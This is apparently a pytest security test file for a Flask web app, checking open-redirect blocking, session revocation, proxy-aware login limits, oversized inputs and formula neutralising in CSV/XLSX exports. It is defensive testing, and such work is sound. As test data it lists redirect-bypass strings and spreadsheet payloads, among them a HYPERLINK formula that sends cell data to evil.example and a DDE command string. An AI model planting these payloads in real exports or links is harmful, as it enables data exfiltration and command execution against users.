"""The web's hardening against the attacks of the security review, through the real app:
open redirects, sessions after logout / password change / deactivation (live stream too),
login limits behind a trusted proxy, huge integers, formula injection in every export."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy import select

from central.at_rest import encrypt_personal
from central.db.models import Site, Stay, Unit, User, WebSession
from tests.integration.pg_fixtures import db_url, postgres_server  # noqa: F401
from tests.web_support import (
    DATA_KEY,
    PASSWORD,
    World,
    csrf,
    export_stays,
    login,
    make_world,
)

# (raw query value, as an attacker puts it in a link)
REDIRECT_BYPASSES = [
    "//evil.example", "/%5Cevil.example", "/%5C/evil.example", "/%09/evil.example",
    "/%0A/evil.example", "/%0D/evil.example", "%2F%2Fevil.example", "/%2F%2Fevil.example",
    "/%252F%252Fevil.example", "%09//evil.example", "https://evil.example",
    "http:%2F%2Fevil.example", "javascript:alert(1)", "JAVASCRIPT:alert(1)",
    "data:text/html,x", "///evil.example", "/%20/evil.example", "evil.example",
]


@pytest.fixture
def world(tmp_path: Path, db_url: str) -> World:  # noqa: F811
    """The seeded collector on SQLite and on PostgreSQL."""
    return make_world(tmp_path, db_url)


def _location_is_local(location: str) -> bool:
    return location.startswith("/") and not location.startswith(("//", "/\\")) \
        and "evil" not in location


@pytest.mark.parametrize("raw", REDIRECT_BYPASSES)
def test_language_switch_never_redirects_off_site(world: World, raw: str) -> None:
    c = world.app.test_client()
    r = c.get(f"/lang/en?next={raw}")
    assert r.status_code == 302
    assert r.headers["Location"] == "/", (raw, r.headers["Location"])


@pytest.mark.parametrize("raw", REDIRECT_BYPASSES)
def test_login_never_redirects_off_site(world: World, raw: str) -> None:
    c = world.app.test_client()
    page = c.get(f"/login?next={raw}").get_data(as_text=True)
    hidden = re.search(r'name="next" value="([^"]*)"', page)
    assert hidden is not None and hidden.group(1) == "", hidden
    token = csrf(c)
    from urllib.parse import unquote

    r = c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf_token": token,
                               "next": unquote(raw)})
    assert r.status_code == 302
    assert r.headers["Location"] == "/", (raw, r.headers["Location"])


def test_local_next_is_kept(world: World) -> None:
    c = world.app.test_client()
    assert c.get("/lang/en?next=/stays/%3Fstatus%3Ddue").headers["Location"] == "/stays/?status=due"
    assert login_next(c, "/reports/").headers["Location"] == "/reports/"


def login_next(c: FlaskClient, nxt: str) -> Any:
    token = csrf(c)
    return c.post("/login", data={"username": "admin", "password": PASSWORD, "csrf_token": token,
                                  "next": nxt})


def _uid(world: World, name: str) -> int:
    with world.maker() as db:
        uid = db.scalar(select(User.id).where(User.username == name))
    assert uid is not None
    return uid


def test_a_cookie_copied_before_logout_no_longer_works(world: World) -> None:
    c = world.app.test_client()
    login(c, "tinh")
    cookie = c.get_cookie("central_session")
    assert cookie is not None
    saved = cookie.value
    token = csrf(c, "/")
    assert c.post("/logout", data={"csrf_token": token}).status_code == 302
    thief = world.app.test_client()
    thief.set_cookie("central_session", saved)
    assert thief.get("/stays/").status_code == 302
    with world.maker() as db:
        assert db.scalars(select(WebSession)).all() == []


def test_deactivation_and_password_change_end_every_session(world: World) -> None:
    admin, a, b = (world.app.test_client() for _ in range(3))
    login(admin, "admin")
    login(a, "diem")
    login(b, "tinh")
    assert a.get("/").status_code == 200 and b.get("/").status_code == 200
    token = csrf(admin, "/admin/users")
    r = admin.post(f"/admin/users/{_uid(world, 'diem')}", data={
        "csrf_token": token, "role": "site", "site_ids": "hue-dai-noi"})  # active unticked
    assert r.status_code == 302
    assert a.get("/").status_code == 302
    r = admin.post(f"/admin/users/{_uid(world, 'tinh')}/password",
                   data={"csrf_token": token, "password": "another long password"})
    assert r.status_code == 302
    assert b.get("/").status_code == 302
    assert admin.get("/").status_code == 200


def _next_event(chunks: object) -> str:
    for chunk in chunks:  # type: ignore[attr-defined]
        text = chunk.decode() if isinstance(chunk, bytes) else chunk
        if text.startswith("event:"):
            return str(text)
    return ""


@pytest.mark.parametrize("how", ["deactivate", "password", "logout"])
def test_open_live_stream_ends_with_its_session(tmp_path: Path, how: str) -> None:
    world = make_world(tmp_path, SSE_POLL_SECONDS=0.01, SSE_MAX_SECONDS=60.0)
    admin, victim = world.app.test_client(), world.app.test_client()
    login(admin, "admin")
    login(victim, "diem")
    response = victim.get("/dashboard/stream", buffered=False)
    chunks = iter(response.response)
    assert _next_event(chunks).startswith("event: update")
    if how == "logout":
        # The same cookie logs out elsewhere (another tab): the stream is this session's.
        other = world.app.test_client()
        cookie = victim.get_cookie("central_session")
        assert cookie is not None
        other.set_cookie("central_session", cookie.value)
        token = csrf(other, "/")
        assert other.post("/logout", data={"csrf_token": token}).status_code == 302
    else:
        token = csrf(admin, "/admin/users")
        uid = _uid(world, "diem")
        if how == "deactivate":
            admin.post(f"/admin/users/{uid}", data={"csrf_token": token, "role": "site",
                                                    "site_ids": "hue-dai-noi"})
        else:
            admin.post(f"/admin/users/{uid}/password",
                       data={"csrf_token": token, "password": "another long password"})
    rest = list(chunks)  # ends by itself: the stream notices on its next tick
    response.close()
    assert any("event: logout" in (c.decode() if isinstance(c, bytes) else c) for c in rest)


def test_huge_integers_are_400_not_500(world: World) -> None:
    c = world.app.test_client()
    login(c, "admin")
    huge = "99999999999999999999999"
    for path in (f"/reports/?unit={huge}", f"/reports/export.csv?unit={huge}",
                 f"/reports/export.xlsx?unit={huge}", f"/audit/?page={huge}",
                 f"/api/v1/sites?unit={huge}", f"/api/v1/counts?unit={huge}",
                 f"/api/v1/reports?unit={huge}", "/reports/?unit=2147483648",
                 "/audit/?page=%C2%B2", "/reports/?unit=-1",
                 "/reports/?date=9999-12-31", "/api/v1/counts?date=0001-01-01",
                 "/reports/?period=stat_year&date=0001-01-01", "/stays/?from=9999-12-31",
                 "/sites/a%00b", "/stays/?site=%00", "/api/v1/sites?site=x%00"):
        assert c.get(path).status_code == 400, path
    assert c.get(f"/admin/users/{huge}").status_code in (404, 405)
    token = csrf(c, "/admin/units")
    r = c.post("/admin/units", data={"csrf_token": token, "code": "99", "name": "X",
                                     "level": "province", "parent_id": huge})
    assert r.status_code == 400


def _behind_proxy(tmp_path: Path) -> World:
    return make_world(tmp_path, TRUSTED_PROXY_HOPS=1, IP_MAX_FAILURES=3)


def _login_from(world: World, client_ip: str, user: str, password: str,
                spoof: str | None = None) -> int:
    c = world.app.test_client()
    forwarded = client_ip if spoof is None else f"{spoof}, {client_ip}"
    env = {"REMOTE_ADDR": "10.0.0.1"}  # the proxy
    token = csrf(c)
    r = c.post("/login", data={"username": user, "password": password, "csrf_token": token},
               headers={"X-Forwarded-For": forwarded}, environ_base=env)
    return r.status_code


def test_per_address_limit_behind_a_trusted_proxy(tmp_path: Path) -> None:
    world = _behind_proxy(tmp_path)
    for name in ("a", "b", "c"):
        assert _login_from(world, "203.0.113.9", name, "wrong") == 401
    assert _login_from(world, "203.0.113.9", "admin", PASSWORD) == 429
    # Spoofing the header does not help: the proxy appends the real address last.
    assert _login_from(world, "203.0.113.9", "admin", PASSWORD, spoof="198.51.100.1") == 429
    # Everybody else behind the same proxy still logs in.
    assert _login_from(world, "198.51.100.7", "admin", PASSWORD) == 302


def test_forwarded_header_ignored_without_a_trusted_proxy(tmp_path: Path) -> None:
    world = make_world(tmp_path, IP_MAX_FAILURES=3)
    for i, name in enumerate(("a", "b", "c")):
        assert _login_from(world, f"203.0.113.{i}", name, "wrong") == 401
    assert _login_from(world, "198.51.100.7", "admin", PASSWORD) == 429


def test_trusted_proxy_hops_is_validated(tmp_path: Path) -> None:
    from central.web.app import ConfigurationError

    with pytest.raises(ConfigurationError, match="TRUSTED_PROXY_HOPS"):
        make_world(tmp_path, TRUSTED_PROXY_HOPS=-1)


def test_lock_expires_and_counts_again(world: World) -> None:
    c = world.app.test_client()
    for _ in range(5):
        assert login(c, "diem", "wrong password!").status_code == 401
    assert login(c, "diem", PASSWORD).status_code == 401
    with world.maker() as db:
        user = db.scalar(select(User).where(User.username == "diem"))
        assert user is not None and user.locked_until is not None
        user.locked_until = user.locked_until.replace(year=2000)
        db.commit()
    assert login(c, "diem", PASSWORD).status_code == 302
    with world.maker() as db:
        user = db.scalar(select(User).where(User.username == "diem"))
        assert user is not None and user.failed_logins == 0 and user.locked_until is None


# -- formula injection: every export, every cell --------------------------------------------

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Mai\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "\u00a0@x"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _plant(world: World, payload: str) -> None:
    with world.maker() as db:
        for unit in db.scalars(select(Unit)):
            unit.name = payload + unit.name
        for site in db.scalars(select(Site)):
            site.name = payload + site.name
        for stay in db.scalars(select(Stay)):
            guest = {"full_name": payload + "Nguyễn Thị Mai", "id_number": "079303001234",
                     "date_of_birth": "2003-05-15", "sex": "F", "nationality": "VNM",
                     "address": payload + "1 Đường C", "document_type": "cccd"}
            stay.personal_sealed = encrypt_personal(DATA_KEY, stay.stay_id, guest)
            stay.ward_or_room = payload[:20]
        db.commit()


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(io.BytesIO(data))
    out: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    # text or a number: never a formula (numbers are figures, never run)
                    assert cell.data_type in ("s", "n"), cell.coordinate
                    assert cell.data_type == "s" or isinstance(cell.value, int | float)
                    out.append(str(cell.value))
    return out


def _assert_inert(cells: list[str], payload: str, where: str) -> None:
    for cell in cells:
        assert cell.lstrip(" \t\r\n\u00a0")[:1] not in DANGEROUS[:4] or cell.startswith("'"), \
            (where, cell)
        assert cell[:1] not in DANGEROUS, (where, cell)
    # XML normalises a carriage return to a newline on reading; the apostrophe stays first.
    assert any(cell.replace("\r", "\n").startswith("'" + payload.replace("\r", "\n"))
               for cell in cells), (where, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_export_neutralises_formulas(world: World, payload: str) -> None:
    _plant(world, payload)
    c = world.app.test_client()
    login(c, "admin")
    for path, parse in (("/stays/export.csv", _csv_cells), ("/stays/export.xlsx", _xlsx_cells),
                        ("/reports/export.csv", _csv_cells),
                        ("/reports/export.xlsx", _xlsx_cells)):
        r = export_stays(c, path.rsplit(".", 1)[1]) if path.startswith("/stays") \
            else c.get(path)
        assert r.status_code == 200, path
        _assert_inert(parse(r.data), payload, path)


def test_the_json_api_keeps_names_as_they_are(world: World) -> None:
    """The JSON API is not a spreadsheet: names come back as they are (no apostrophe)."""
    _plant(world, "=1+1")
    c = world.app.test_client()
    login(c, "admin")
    body = json.loads(c.get("/api/v1/reports").get_data(as_text=True))
    assert "=1+1" in json.dumps(body, ensure_ascii=False)


def test_proxy_hops_come_from_the_settings_file(tmp_path: Path) -> None:
    from werkzeug.middleware.proxy_fix import ProxyFix

    from central.settings import SettingsError, settings_from_dict
    from central.web import create_app

    url = f"sqlite:///{tmp_path / 'c.sqlite3'}"
    settings = settings_from_dict({"database_url": url, "web": {"trusted_proxy_hops": 1}})
    app = create_app(settings, {"SECRET_KEY": b"k" * 32})
    assert app.config["TRUSTED_PROXY_HOPS"] == 1 and isinstance(app.wsgi_app, ProxyFix)
    plain = create_app(settings_from_dict({"database_url": url}), {"SECRET_KEY": b"k" * 32})
    assert not isinstance(plain.wsgi_app, ProxyFix)
    with pytest.raises(SettingsError, match=r"web\.trusted_proxy_hops"):
        settings_from_dict({"web": {"trusted_proxy_hops": 11}})
    with pytest.raises(SettingsError, match=r"web\.proxy"):
        settings_from_dict({"web": {"proxy": 1}})
